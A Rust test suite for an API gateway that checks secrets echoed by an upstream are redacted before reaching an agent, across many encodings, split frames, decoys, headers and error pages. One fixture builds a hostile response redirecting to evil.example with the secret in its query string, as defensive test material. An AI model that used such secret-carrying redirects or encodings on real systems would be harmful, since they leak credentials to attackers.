//! Cases 45 and 63 to 70: a secret that the upstream sends back does not reach the agent, in
//! whatever form, place and pieces it comes.

use base64::Engine;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use serde_json::{Value, json};
use tollgate_testkit::canary::sightings;
use tollgate_testkit::raw::Answer;
use tollgate_testkit::recorder::Recorder;

use crate::harness::{Ask, Gateway, Plan, Site, World, chat, key, text};

const CHAT: &str = "/openai/v1/chat/completions";
const ISSUES: &str = "/github/repos/a/b/issues";

#[track_caller]
fn assert_clean(answer: &Answer, key: &str, what: &str) {
    let all = format!("{:?} {}", answer.headers, answer.text());
    let seen = sightings(&all, key);
    assert!(seen.is_empty(), "{what}: {seen:?} in {all}");
    assert!(all.contains("[redacted]"), "{what}: no mark in {all}");
}

fn percent(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

fn hexadecimal(text: &str) -> String {
    text.bytes().map(|byte| format!("{byte:02x}")).collect()
}

fn unicode(text: &str) -> String {
    text.bytes().map(|byte| format!("\\u{byte:04x}")).collect()
}

/// Every declared form, as an upstream may write it into its body.
fn forms(key: &str) -> Vec<String> {
    let mut forms = vec![
        key.to_owned(),
        hexadecimal(key),
        hexadecimal(key).to_uppercase(),
        percent(key),
        percent(key).to_lowercase(),
        unicode(key),
        format!("{}{}{}", percent(&key[..5]), &key[5..9], unicode(&key[9..])),
    ];
    for lead in ["", "x", "user:", "Bearer "] {
        let whole = format!("{lead}{key}");
        forms.push(STANDARD.encode(&whole));
        forms.push(URL_SAFE_NO_PAD.encode(format!("{whole}?")));
    }
    forms
}

#[tokio::test]
async fn case_66_every_declared_form_is_scrubbed_from_a_plain_body_of_the_same_length() {
    let world = World::new().await;
    let token = world.token("acme").await;
    let key = key("acme", "github");
    for form in forms(&key) {
        let body = format!("{{\"login\":\"mock\",\"echo\":\"{form}\",\"id\":1}}");
        let ask = Ask::new("POST", &format!("{ISSUES}?mock=echo-body"))
            .bearer(&token)
            .header("content-type", "application/json")
            .body(body.clone());
        let answer = world.send(&ask).await;
        assert_clean(&answer, &key, &form);
        assert_eq!(answer.body.len(), body.len(), "{form}");
        assert_eq!(
            answer.header("content-length"),
            Some(&*body.len().to_string())
        );
        assert_eq!(answer.json()["id"], 1, "what surrounds it is untouched");
        assert!(!answer.text().contains(&form), "{form}");
        let record = world.record_of("acme", &answer).await;
        assert_eq!(record["tollgate.secret_scrubbed"], true, "{record:#}");
    }
    let (_, metrics) = world.gateway.admin_get("/metrics").await;
    let count = forms(&key).len();
    assert!(
        metrics.contains(&format!(
            "tollgate_scrub_hits_total{{where=\"body\"}} {count}\n"
        )),
        "{metrics}"
    );
}

#[tokio::test]
async fn case_64_a_secret_split_into_pieces_of_any_size_is_scrubbed() {
    let world = World::new().await;
    let token = world.token("acme").await;
    let key = key("acme", "github");
    let body = format!(
        "{{\"a\":\"{key}\",\"b\":\"{}\",\"c\":\"{}\",\"d\":\"{}\"}}",
        unicode(&key),
        percent(&key),
        STANDARD.encode(&key)
    );
    let mut first = None;
    for bytes in 1..=40 {
        let ask = Ask::new(
            "POST",
            &format!("{ISSUES}?mock=echo-body,frame-bytes-{bytes}"),
        )
        .bearer(&token)
        .body(body.clone());
        let answer = world.send(&ask).await;
        assert_clean(&answer, &key, &format!("pieces of {bytes}"));
        let text = answer.text();
        assert_eq!(text.matches("[redacted]").count(), 4, "{text}");
        assert_eq!(*first.get_or_insert_with(|| text.clone()), text, "{bytes}");
    }
}

#[tokio::test]
async fn case_64_a_secret_in_an_event_is_scrubbed_and_the_usage_still_exact() {
    let world = World::new().await;
    let token = world.token("acme").await;
    let key = key("acme", "openai");
    let mut body = chat();
    body["stream"] = json!(true);
    for echo in ["echo-headers", "echo-base64", "echo-hex", "echo-percent"] {
        for bytes in (1..=30).step_by(3) {
            let words = format!("{echo},chunks-1,usage-100-20,frame-bytes-{bytes}");
            let ask = Ask::new("POST", &format!("{CHAT}?mock={words}"));
            let answer = world.send(&ask.bearer(&token).json(&body)).await;
            assert_clean(&answer, &key, &words);
            assert!(answer.text().ends_with("data: [DONE]\n\n"), "{words}");
            let record = world.record_of("acme", &answer).await;
            assert_eq!(text(&record, "tollgate.usage.source"), "exact");
            assert_eq!(record["tollgate.usage"]["output_tokens"], 20);
        }
    }
}

#[tokio::test]
async fn case_70_errors_heads_and_trailers_hold_no_secret_either() {
    let world = World::new().await;
    let token = world.token("acme").await;
    let key = key("acme", "openai");
    for words in [
        "status-500,echo-headers",
        "status-401,echo-headers",
        "redirect-302,echo-headers",
        "echo-headers,echo-trailer",
    ] {
        let ask = Ask::new("POST", &format!("{CHAT}?mock={words}"));
        let answer = world.send(&ask.bearer(&token).json(&chat())).await;
        assert_clean(&answer, &key, words);
        assert_eq!(
            answer.header("x-echo-authorization"),
            Some("Bearer [redacted]")
        );
    }
    let head = Ask::new("HEAD", &format!("{ISSUES}?mock=echo-headers")).bearer(&token);
    let answer = world.send(&head).await;
    assert!(sightings(&format!("{answer:?}"), &key).is_empty());
}

/// A gateway in front of an upstream that answers everything with `answer`.
async fn answered_with(answer: &str, secret: &str) -> (Gateway, Recorder) {
    let upstream = Recorder::start(answer).await;
    let mut plan = Plan::at(upstream.address());
    plan.tenant("acme").secret("github_token", secret);
    let site = Site::new();
    plan.write(&site);
    (site.serve().await, upstream)
}

async fn ask_user(gateway: &Gateway) -> Answer {
    let token = gateway.mint("acme", "a1", "t1").await;
    let ask = Ask::new("GET", "/github/user").bearer(&token);
    ask.send(gateway.address).await
}

#[tokio::test]
async fn case_63_no_part_of_a_head_or_an_error_page_tells_the_secret() {
    let key = "sk-canary-head-4f1c9e7ab2";
    let page = format!("<html>Bad token {key} ({})</html>", percent(key));
    let answer = format!(
        "HTTP/1.1 401 No {key}\r\n\
         location: https://evil.example/?k={encoded}&b={base64}\r\n\
         set-cookie: k={key}; Path=/\r\n\
         www-authenticate: Basic realm=\"{key}\"\r\n\
         x-{key}: named\r\n\
         x-hex: {hex}\r\n\
         x-clean: sk-canary-head\r\n\
         content-type: text/html\r\n\
         content-length: {length}\r\n\r\n{page}",
        encoded = percent(key),
        base64 = URL_SAFE_NO_PAD.encode(format!("x{key}y")),
        hex = hexadecimal(key),
        length = page.len(),
    );
    let (gateway, _upstream) = answered_with(&answer, key).await;
    let token = gateway.mint("acme", "a1", "t1").await;
    let mut raw = tollgate_testkit::raw::Raw::connect(gateway.address).await;
    raw.send(Ask::new("GET", "/github/user").bearer(&token).bytes())
        .await;
    let head = raw.read_until(b"\r\n\r\n").await;
    let head = String::from_utf8(head).unwrap();
    assert_eq!(sightings(&head, key), Vec::<&str>::new(), "{head}");
    assert!(head.starts_with("HTTP/1.1 401 "), "{head}");
    for line in [
        "location: https://evil.example/?k=[redacted]&b=",
        "www-authenticate: Basic realm=\"[redacted]\"",
        "x-hex: [redacted]",
        "x-clean: sk-canary-head",
    ] {
        assert!(head.contains(line), "{line} in {head}");
    }
    assert!(!head.contains("named"), "{head}");
    let answer = ask_user(&gateway).await;
    assert_clean(&answer, key, "the page");
    assert_eq!(answer.body.len(), page.len());
}

#[tokio::test]
async fn case_67_a_secret_behind_megabytes_of_decoys_is_scrubbed() {
    let world = World::new().await;
    let token = world.token("acme").await;
    let key = key("acme", "github");
    let mut body = format!("{}%73\\u0073", &key[..key.len() - 1]).repeat(100_000);
    body.push_str(&key);
    let ask = Ask::new("POST", &format!("{ISSUES}?mock=echo-body"))
        .bearer(&token)
        .body(body.clone());
    let answer = world.send(&ask).await;
    let text = answer.text();
    let (decoys, last) = body.split_at(body.len() - key.len());
    assert_eq!(text.len(), body.len());
    assert!(text.starts_with(decoys), "decoys pass");
    assert!(!text.ends_with(last) && text[decoys.len()..].starts_with("[redacted]*"));
}

#[tokio::test]
async fn case_69_a_short_secret_is_stored_with_a_warning_and_noted_with_every_call() {
    let body = "{\"a\":\"1234567\"}";
    let length = body.len();
    let answer = format!("HTTP/1.1 200 OK\r\ncontent-length: {length}\r\n\r\n{body}");
    let (gateway, _upstream) = answered_with(&answer, "1234567").await;
    let arguments = [
        "secret",
        "set",
        "--tenant",
        "acme",
        "--name",
        "github_token",
    ];
    let told = gateway.site.cli(&arguments, "1234567");
    let told = String::from_utf8_lossy(&told.stderr).into_owned();
    assert!(told.contains("fewer than 8 bytes"), "{told}");
    let answer = ask_user(&gateway).await;
    assert_eq!(answer.text(), body, "normal output is not destroyed");
    let id = answer.header("x-tollgate-request-id").expect("an id");
    let record: Value = gateway.site.record("acme", id).await;
    assert_eq!(
        record["tollgate.notes"],
        json!(["secret_too_short_to_scrub"])
    );
}

#[tokio::test]
async fn case_69_a_secret_too_short_for_the_mark_takes_the_announced_length_with_it() {
    let body = "{\"a\":\"12345678\"}";
    let length = body.len();
    let answer = format!("HTTP/1.1 200 OK\r\ncontent-length: {length}\r\n\r\n{body}");
    let (gateway, _upstream) = answered_with(&answer, "12345678").await;
    let answer = ask_user(&gateway).await;
    assert_eq!(answer.text(), "{\"a\":\"[redacted]\"}");
    assert_eq!(answer.header("content-length"), None);
}
